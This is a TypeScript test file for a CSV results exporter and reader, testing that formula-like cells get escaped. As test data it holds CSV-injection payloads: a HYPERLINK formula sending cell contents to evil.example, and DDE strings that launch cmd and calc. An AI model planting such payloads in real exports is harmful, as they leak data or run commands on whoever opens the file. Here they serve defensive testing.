import { Readable } from 'node:stream'
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { pendingRow } from './fold.js'
import { createResultsCsv, csvColumns, csvField, csvLine, csvRecord, isFormulaText, readCsvRecords } from './csv.js'
import type { BulkRowRecord } from './types.js'

async function text(stream: Readable): Promise<string> {
  let s = ''
  for await (const chunk of stream) s += String(chunk)
  return s
}

async function records(input: string | string[]): Promise<string[][]> {
  const out: string[][] = []
  for await (const r of readCsvRecords(Readable.from(Array.isArray(input) ? input : [input]))) out.push(r)
  return out
}

async function* rowsOf(rows: BulkRowRecord[]) {
  for (const r of rows) yield [r]
}

const ipRow = (input: string, details: Record<string, unknown>): BulkRowRecord => ({
  ...pendingRow(0, input),
  state: 'done',
  action: 'review',
  status: 'risky',
  reason: 'The address is a Tor exit node.',
  risk_score: 80,
  credits_used: 1,
  cache_hit: false,
  details,
})

describe('results CSV', () => {
  it('has the decided columns: base columns, then the details flattened to dotted names in schema order', () => {
    const cols = csvColumns('ip')
    expect(cols.slice(0, 9)).toEqual(['input', 'action', 'status', 'reason', 'risk_score', 'credits_used', 'cache_hit', 'error', 'factors'])
    expect(cols.slice(9, 12)).toEqual(['details.ip', 'details.version', 'details.location.country'].map((c) => c.replace('details.', '')))
    expect(cols).toContain('flags.on_blocklists')
    expect(cols).toContain('network.connection_type')
    expect(csvColumns('email')).toContain('mx_records')
    expect(csvColumns('email_auth')).toContain('dkim.selectors_found')
    expect(new Set(cols).size).toBe(cols.length)
  })

  it('joins arrays with ";", writes booleans as true/false and null as an empty cell', () => {
    const row = ipRow('1.2.3.4', {
      ip: '1.2.3.4',
      version: 4,
      location: { country: null, country_code: 'DE', lat: -33.5 },
      flags: { is_tor: true, is_vpn: false, on_blocklists: ['spamhaus-drop', 'firehol'] },
    })
    const rec = csvRecord('ip', row)
    const cols = csvColumns('ip')
    const at = (c: string) => rec[cols.indexOf(c)]
    expect(at('flags.on_blocklists')).toBe('spamhaus-drop;firehol')
    expect(at('location.country')).toBeNull()
    expect(at('location.lat')).toBe(-33.5)
    expect(at('flags.is_tor')).toBe(true)
    expect(at('network.asn')).toBeNull() // missing in the details: empty
  })

  it('writes the factor codes joined with ";" (empty for no factors and for an error row)', () => {
    const cols = csvColumns('ip')
    const at = (row: BulkRowRecord) => csvRecord('ip', row)[cols.indexOf('factors')]
    expect(at({ ...ipRow('1.2.3.4', {}), factors: ['ip_tor', 'ip_datacenter'] })).toBe('ip_tor;ip_datacenter')
    expect(at({ ...ipRow('1.2.3.5', {}), factors: [] })).toBe('')
    expect(at({ ...pendingRow(1, 'x'), state: 'error', error: 'INVALID_INPUT: no' })).toBeNull()
  })

  it('escapes formulas: an input like =HYPERLINK(...) never becomes a live formula; numbers and phone numbers stay data', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    const rows = [
      ipRow(evil, { ip: '+1+cmd|\' /C calc\'!A0', version: 4, location: { lat: -12.25, city: '@SUM(A1)', region: '+12015551000' }, flags: { is_tor: false } }),
      { ...pendingRow(1, '-2+3'), state: 'error' as const, error: 'INVALID_INPUT: cannot parse' },
    ]
    const csv = await text(createResultsCsv('ip', rowsOf(rows)))
    const lines = csv.trimEnd().split('\n')
    expect(lines[0]).toBe(csvColumns('ip').join(','))
    expect(lines).toHaveLength(3)
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
    const parsed = await records(csv)
    const cols = parsed[0]!
    const first = parsed[1]!
    const cell = (r: string[], c: string) => r[cols.indexOf(c)]
    expect(cell(first, 'input')).toBe(`'${evil}`)
    expect(cell(first, 'ip')).toBe("'+1+cmd|' /C calc'!A0")
    expect(cell(first, 'location.region')).toBe('+12015551000')
    expect(cell(first, 'location.city')).toBe("'@SUM(A1)")
    expect(cell(first, 'location.lat')).toBe('-12.25')
    expect(cell(first, 'flags.is_tor')).toBe('false')
    expect(cell(first, 'cache_hit')).toBe('false')
    expect(cell(first, 'risk_score')).toBe('80')
    const second = parsed[2]!
    expect(cell(second, 'input')).toBe("'-2+3")
    expect(cell(second, 'action')).toBe('')
    expect(cell(second, 'error')).toBe('INVALID_INPUT: cannot parse')
    for (const r of parsed) expect(r).toHaveLength(cols.length)
  })

  it('destroys the stream when the rows fail', async () => {
    async function* broken(): AsyncGenerator<BulkRowRecord[]> {
      yield [ipRow('1.1.1.1', {})]
      throw new Error('store went away')
    }
    await expect(text(createResultsCsv('ip', broken()))).rejects.toThrow('store went away')
  })
})

describe('csvField / csvLine', () => {
  it('quote a field with a semicolon, so a spreadsheet splitting on semicolons keeps it one cell (no formula cell after it)', () => {
    expect(csvField("1.1.1.1;=cmd|'/C calc'!A0")).toBe(`"1.1.1.1;=cmd|'/C calc'!A0"`)
    expect(csvLine(['a;b', 'plain'])).toBe('"a;b",plain\n')
  })

  it('write exactly what csv-stringify writes, with escape_formulas for the cells that are formulas (random fields, Unicode, quotes, line breaks)', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', ' ', '＝', '＋', '－', '＠', 'é', '1', '.') }),
    )
    const field = fc.oneof(text, fc.integer(), fc.double({ noNaN: true }), fc.boolean(), fc.constant(null))
    const cast = { boolean: (v: boolean) => (v ? 'true' : 'false') }
    const oracle = (f: unknown) => stringify([[f]], { escape_formulas: typeof f === 'string' && isFormulaText(f), quoted_match: ';', cast }).slice(0, -1)
    fc.assert(
      fc.property(fc.array(field, { minLength: 1, maxLength: 8 }), (fields) => {
        expect(csvLine(fields)).toBe(`${fields.map(oracle).join(',')}\n`)
      }),
      { numRuns: 2000 },
    )
  })

  it('neutralises formulas: =, @, tab, CR, full-width forms, and + or - unless the cell is only a number or a phone number', () => {
    for (const formula of ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '=1+1', '+A1', '-A1', '\t=1', '\r=1', '＝1+1', '＋12015551000', '+1 201 555 1000+1', '-', '+', '- 1', '+1  2', '+1-', '-1e5+1'])
      expect([formula, isFormulaText(formula)]).toEqual([formula, true])
    for (const data of ['+12015551000', '+1 201-555-1000', '+44 20 7946 0958', '+33.1.23.45.67.89', '-12.5', '-0.001', '+3', '-1e-7', '-.5', '12015551000', 'jane@example.com', '(415) 555-0132', ''])
      expect([data, isFormulaText(data)]).toEqual([data, false])
    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"')
    expect(csvField('+14155550100')).toBe('+14155550100')
    expect(csvField('+1 415-555-0100')).toBe('+1 415-555-0100')
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('-12.5')).toBe('-12.5')
    expect(csvField(-33.87)).toBe('-33.87')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField(null)).toBe('')
    expect(csvField(false)).toBe('false')
  })

  it('leaves a cell starting with + or - alone only when it holds nothing a spreadsheet could run (digits, signs, ".", "e", spaces, hyphens)', () => {
    const alphabet = fc.constantFrom('+', '-', '1', '2', '0', '.', ' ', 'e', 'E', '(', ')', '|', '!', 'A', '"', "'", ',', ':', '=', '@', '&', '*', '/')
    fc.assert(
      fc.property(fc.constantFrom('+', '-'), fc.string({ unit: alphabet, maxLength: 20 }), (sign, rest) => {
        const s = sign + rest
        if (!isFormulaText(s)) {
          expect(s).toMatch(/^[+-][0-9.eE+\- ]*$/)
          expect(csvField(s)).toBe(s)
        } else expect(csvField(s).replace(/^"/, '').startsWith("'")).toBe(true)
      }),
      { numRuns: 5000 },
    )
  })
})

describe('readCsvRecords', () => {
  it('reads quoted fields with commas, quotes and line breaks, CRLF and LF, a BOM, and skips empty lines', async () => {
    const csv = '\uFEFFemail,name\r\n"a@x.com","Doe, Jane"\r\n\r\nb@y.com,"say ""hi"""\n"multi\nline",\n,\n"",last'
    expect(await records(csv)).toEqual([
      ['email', 'name'],
      ['a@x.com', 'Doe, Jane'],
      ['b@y.com', 'say "hi"'],
      ['multi\nline', ''],
      ['', ''],
      ['', 'last'],
    ])
  })

  it('gives the same records whatever the chunking', async () => {
    const csv = 'a,"b,""c"""\r\n"d\r\ne",f\r\n'
    const whole = await records(csv)
    for (let cut = 1; cut < csv.length; cut++) expect(await records([csv.slice(0, cut), csv.slice(cut)])).toEqual(whole)
    expect(whole).toEqual([
      ['a', 'b,"c"'],
      ['d\r\ne', 'f'],
    ])
  })

  it('reads bytes whose UTF-8 characters are split between chunks (a file read in 64 KiB pieces)', async () => {
    const bytes = Buffer.from('\uFEFFemail\njöhn@exämple.de,☃\n', 'utf8')
    const whole = await records([bytes.toString('utf8')])
    for (let cut = 1; cut < bytes.length; cut++) {
      const out: string[][] = []
      for await (const r of readCsvRecords(Readable.from([bytes.subarray(0, cut), bytes.subarray(cut)]))) out.push(r)
      expect(out).toEqual(whole)
    }
    expect(whole).toEqual([['email'], ['jöhn@exämple.de', '☃']])
  })

  it('caps a runaway field and reports each cut field once, with its record and the line the field starts on', async () => {
    const cuts: Array<[string, { record: number; line: number }]> = []
    const out: string[][] = []
    const csv = 'h,note\r\n"multi\r\nline",1\n"' + 'x'.repeat(100) + '\nmore",' + 'y'.repeat(20) + '\nok,2\n'
    for await (const r of readCsvRecords(Readable.from([csv]), { maxField: 12, onTruncated: (text, at) => cuts.push([text, at]) })) out.push(r)
    expect(out).toEqual([['h', 'note'], ['multi\r\nline', '1'], ['x'.repeat(12), 'y'.repeat(12)], ['ok', '2']])
    expect(cuts).toEqual([
      ['x'.repeat(12), { record: 3, line: 4 }],
      ['y'.repeat(12), { record: 3, line: 5 }],
    ])
    // the same whatever the chunking (a CRLF split between two chunks is one line break)
    for (let cut = 1; cut < csv.length; cut++) {
      const again: Array<[string, { record: number; line: number }]> = []
      for await (const _ of readCsvRecords(Readable.from([csv.slice(0, cut), csv.slice(cut)]), { maxField: 12, onTruncated: (text, at) => again.push([text, at]) })) void _
      expect(again).toEqual(cuts)
    }
  })
})
